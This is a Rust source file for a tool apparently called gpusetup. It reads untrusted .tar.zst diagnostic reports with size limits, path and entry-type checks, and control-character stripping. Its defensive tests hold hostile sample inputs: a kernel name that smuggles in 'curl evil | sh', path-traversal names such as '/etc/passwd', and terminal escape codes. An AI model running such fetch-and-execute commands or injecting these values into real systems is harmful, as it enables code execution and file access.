//! The file of a report: a `.tar.zst` of plain texts that can be read before they are shared. A
//! report from elsewhere is not trusted: it may be damaged, altered, from a newer gpusetup, or
//! malicious.

use super::anonymise::plain;
use gpusetup_doctor::Seen;
use gpusetup_system::zst;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::{self, Read};

/// The schema of `evidence.json`.
pub(crate) const SCHEMA: &str = "gpusetup.evidence/1";
/// The file in a report that the checks run on.
pub(crate) const EVIDENCE: &str = "evidence.json";

/// The largest unpacked size of a report, in bytes: gpusetup writes less than half.
const MAX_UNPACKED: u64 = 32 << 20;
/// The largest window of the decoder, as a power of two in bytes; gpusetup's own reports need 2^21.
const WINDOW: u32 = 24;
/// zstd's default: a report is small and is packed once.
const LEVEL: i32 = 3;

/// The evidence of a host, with the time and the version of gpusetup.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(
    feature = "schemas",
    derive(schemars::JsonSchema),
    schemars(deny_unknown_fields)
)]
#[serde(deny_unknown_fields)]
pub struct Collected {
    /// The name and version of this format.
    #[cfg_attr(feature = "schemas", schemars(extend("const" = SCHEMA)))]
    pub(crate) schema: String,
    /// The version of gpusetup that collected it.
    pub tool: String,
    /// The time in UTC: `2026-11-21T12:34:56Z`.
    #[cfg_attr(
        feature = "schemas",
        schemars(regex(pattern = r"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z$"))
    )]
    pub collected: String,
    /// The evidence.
    pub evidence: Seen,
}

/// Why a report cannot be read.
#[derive(Debug, thiserror::Error)]
pub enum ArchiveError {
    /// Not an archive, truncated, or altered.
    #[error("it is not a .tar.zst, or it is damaged: {0}")]
    Damaged(#[from] io::Error),
    /// Too large for the memory.
    #[error("it unpacks to more than {} MiB, the limit for a report", MAX_UNPACKED >> 20)]
    TooLarge,
    /// Contents that do not belong to a report.
    #[error("it contains {0}, which does not belong to a report")]
    Strange(String),
    /// An archive that is not a report.
    #[error("it has no {EVIDENCE}")]
    NotAReport,
    /// Not JSON, or not in the expected format.
    #[error("its {EVIDENCE} has an invalid format: {0}")]
    Form(#[from] serde_json::Error),
    /// Another schema.
    #[error("its schema is {0}; this gpusetup reads {SCHEMA}")]
    Schema(String),
    /// Written by a newer gpusetup that this one does not understand.
    #[error("gpusetup {0} wrote it, which is newer than this one ({own}): {1}", own = env!("CARGO_PKG_VERSION"))]
    Newer(String, serde_json::Error),
}

impl ArchiveError {
    /// Whether the file is intact, but this gpusetup is too old for it.
    pub fn is_of_newer(&self) -> bool {
        matches!(self, Self::Schema(_) | Self::Newer(..))
    }
}

/// Packs these texts, by name, into an archive.
pub fn pack(texts: &BTreeMap<String, String>) -> io::Result<Vec<u8>> {
    let mut zstd = zstd::Encoder::new(Vec::new(), LEVEL)?;
    zstd.include_checksum(true)?;
    let mut tar = tar::Builder::new(zstd);
    for (name, text) in texts {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, name, text.as_bytes())?;
    }
    tar.into_inner()?.finish()
}

/// Reads the evidence of a report.
pub fn open(archive: impl Read) -> Result<Collected, ArchiveError> {
    let texts = unpack(archive)?;
    let text = texts.get(EVIDENCE).ok_or(ArchiveError::NotAReport)?;
    let value: Value = serde_json::from_str(text)?;
    match value.get("schema").and_then(Value::as_str) {
        Some(SCHEMA) => {}
        Some(other) => return Err(ArchiveError::Schema(plain(other))),
        None => return Err(ArchiveError::NotAReport),
    }
    let tool = value
        .get("tool")
        .and_then(Value::as_str)
        .map(plain)
        .unwrap_or_default();
    let collected: Collected =
        serde_json::from_value(without_controls(value)).map_err(|e| match is_newer(&tool) {
            true => ArchiveError::Newer(tool, e),
            false => ArchiveError::Form(e),
        })?;
    match collected.evidence.facts.unlikely_kernel() {
        Some(name) => Err(ArchiveError::Strange(format!("a kernel called {name:?}"))),
        None => Ok(collected),
    }
}

/// The texts in an archive, by name. The whole archive is unpacked, so that its checksum is
/// verified.
pub(crate) fn unpack(archive: impl Read) -> Result<BTreeMap<String, String>, ArchiveError> {
    let mut bytes = Vec::new();
    let decoder = zst::Decoder::new(archive)?.window(WINDOW)?;
    decoder.take(MAX_UNPACKED + 1).read_to_end(&mut bytes)?;
    if bytes.len() as u64 > MAX_UNPACKED {
        return Err(ArchiveError::TooLarge);
    }
    let mut texts = BTreeMap::new();
    for entry in tar::Archive::new(bytes.as_slice()).entries()? {
        let mut entry = entry?;
        let name = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
        if !entry.header().entry_type().is_file() || !is_ours(&name) {
            return Err(strange(&name));
        }
        let mut text = Vec::new();
        entry.read_to_end(&mut text)?;
        let text = String::from_utf8(text).map_err(|_| strange(&name))?;
        if texts.insert(name.clone(), text).is_some() {
            return Err(strange(&name));
        }
    }
    Ok(texts)
}

fn strange(name: &str) -> ArchiveError {
    ArchiveError::Strange(format!("{:?}", plain(name)))
}

/// Whether a file of a report may have this name.
fn is_ours(name: &str) -> bool {
    name.len() <= 100
        && name.split('/').count() <= 3
        && name.split('/').all(|part| {
            let mut chars = part.chars();
            part.starts_with(|c| c != '.')
                && chars.all(|c| c.is_ascii_alphanumeric() || "._-+".contains(c))
        })
}

/// A text from elsewhere must not control the reader's terminal.
fn without_controls(value: Value) -> Value {
    match value {
        Value::String(text) => Value::String(plain(&text)),
        Value::Array(values) => Value::Array(values.into_iter().map(without_controls).collect()),
        Value::Object(map) => map
            .into_iter()
            .map(|(key, v)| (plain(&key), without_controls(v)))
            .collect(),
        other => other,
    }
}

fn is_newer(tool: &str) -> bool {
    let [tool, own] = [tool, env!("CARGO_PKG_VERSION")].map(str::parse::<semver::Version>);
    matches!((tool, own), (Ok(tool), Ok(own)) if tool > own)
}

#[cfg(test)]
mod tests {
    use super::*;
    use gpusetup_host::sample;
    use std::io::Write;

    fn seen() -> Seen {
        Seen {
            facts: sample::facts(),
            ..Seen::default()
        }
    }

    fn collected() -> Collected {
        Collected {
            schema: SCHEMA.to_owned(),
            tool: env!("CARGO_PKG_VERSION").to_owned(),
            collected: "2026-11-21T12:34:56Z".to_owned(),
            evidence: seen(),
        }
    }

    fn packed(value: &Value) -> Vec<u8> {
        pack(&[(EVIDENCE.to_owned(), value.to_string())].into()).expect("packed")
    }

    fn zstd(bytes: &[u8]) -> Vec<u8> {
        zstd::encode_all(bytes, 1).expect("compressed")
    }

    #[test]
    fn what_was_kept_is_read_again() {
        let value = serde_json::to_value(collected()).expect("JSON");
        let read = open(packed(&value).as_slice()).expect("a report");
        assert_eq!(read.evidence, seen());
    }

    #[test]
    fn a_newer_report_is_no_damaged_one() {
        let mut value = serde_json::to_value(collected()).expect("JSON");
        value["evidence"]["tomorrow"] = 1.into();
        assert!(
            matches!(open(packed(&value).as_slice()), Err(ArchiveError::Form(_))),
            "nobody wrote this"
        );
        value["tool"] = "99.0.0".into();
        let e = open(packed(&value).as_slice()).expect_err("refused");
        assert!(
            e.is_of_newer() && e.to_string().contains("gpusetup 99.0.0"),
            "{e}"
        );
        value["schema"] = "gpusetup.evidence/2".into();
        assert!(
            open(packed(&value).as_slice())
                .expect_err("refused")
                .is_of_newer()
        );
    }

    #[test]
    fn evidence_from_before_a_field_came_is_read() {
        let mut value = serde_json::to_value(collected()).expect("JSON");
        value["tool"] = "99.0.0".into();
        assert!(
            open(packed(&value).as_slice()).is_ok(),
            "a newer one that says nothing new"
        );
        value["evidence"]["facts"]
            .as_object_mut()
            .expect("facts")
            .remove("offered");
        assert!(open(packed(&value).as_slice()).is_ok());
    }

    #[test]
    fn letters_that_are_none_are_left_out() {
        let mut value = serde_json::to_value(collected()).expect("JSON");
        value["evidence"]["facts"]["os"]["name"] = "a\u{1b}[2Jb".into();
        assert_eq!(
            open(packed(&value).as_slice())
                .expect("a report")
                .evidence
                .facts
                .os
                .name,
            "ab"
        );
    }

    #[test]
    fn a_kernels_name_is_no_command() {
        let mut value = serde_json::to_value(collected()).expect("JSON");
        value["evidence"]["facts"]["kernels"]["installed"][0]["release"] =
            "6.8.0; curl evil | sh".into();
        assert!(matches!(
            open(packed(&value).as_slice()),
            Err(ArchiveError::Strange(_))
        ));
    }

    #[test]
    fn every_cut_and_every_change_of_a_report_is_seen() {
        let whole = packed(&serde_json::to_value(collected()).expect("JSON"));
        for length in 0..whole.len() {
            assert!(
                open(&whole[..length]).is_err(),
                "{length} of {} bytes",
                whole.len()
            );
        }
        let good = open(whole.as_slice()).expect("a report");
        for at in (0..whole.len()).step_by(7) {
            let mut altered = whole.clone();
            altered[at] ^= 0x20;
            // A bit of the frame's header may have no meaning.
            assert!(
                open(altered.as_slice()).map_or(true, |read| read == good),
                "byte {at}"
            );
        }
    }

    #[test]
    fn what_is_made_to_harm_is_refused() {
        assert!(matches!(
            open(zstd(&vec![0; 64 << 20]).as_slice()),
            Err(ArchiveError::TooLarge)
        ));
        assert!(matches!(
            open(&b"PK\x03\x04 something else"[..]),
            Err(ArchiveError::Damaged(_))
        ));
        assert!(matches!(
            open(zstd(b"").as_slice()),
            Err(ArchiveError::NotAReport)
        ));
        let entry = |name: &str, kind: tar::EntryType| {
            let mut tar = tar::Builder::new(Vec::new());
            let mut header = tar::Header::new_gnu();
            // Written directly: the library refuses such names.
            header.as_gnu_mut().expect("GNU").name[..name.len()].copy_from_slice(name.as_bytes());
            header.set_entry_type(kind);
            header.set_size(0);
            header.set_cksum();
            tar.append(&header, &b""[..]).expect("appended");
            zstd(&tar.into_inner().expect("a tar"))
        };
        for name in [
            "../evidence.json",
            "/etc/passwd",
            "a/../b",
            ".hidden",
            "a\u{1b}[2J",
            "a b",
            "x/y/z/w",
        ] {
            assert!(
                matches!(
                    open(entry(name, tar::EntryType::Regular).as_slice()),
                    Err(ArchiveError::Strange(_))
                ),
                "{name}"
            );
        }
        for kind in [
            tar::EntryType::Symlink,
            tar::EntryType::Link,
            tar::EntryType::Directory,
            tar::EntryType::Fifo,
        ] {
            assert!(
                matches!(
                    open(entry(EVIDENCE, kind).as_slice()),
                    Err(ArchiveError::Strange(_))
                ),
                "{kind:?}"
            );
        }
        let mut twice = Vec::new();
        for _ in 0..2 {
            let mut header = tar::Header::new_gnu();
            header.set_path(EVIDENCE).expect("a name");
            header.set_size(0);
            header.set_cksum();
            twice.write_all(header.as_bytes()).expect("written");
        }
        twice.resize(twice.len() + 1024, 0);
        assert!(
            matches!(open(zstd(&twice).as_slice()), Err(ArchiveError::Strange(_))),
            "a file twice"
        );
    }
}
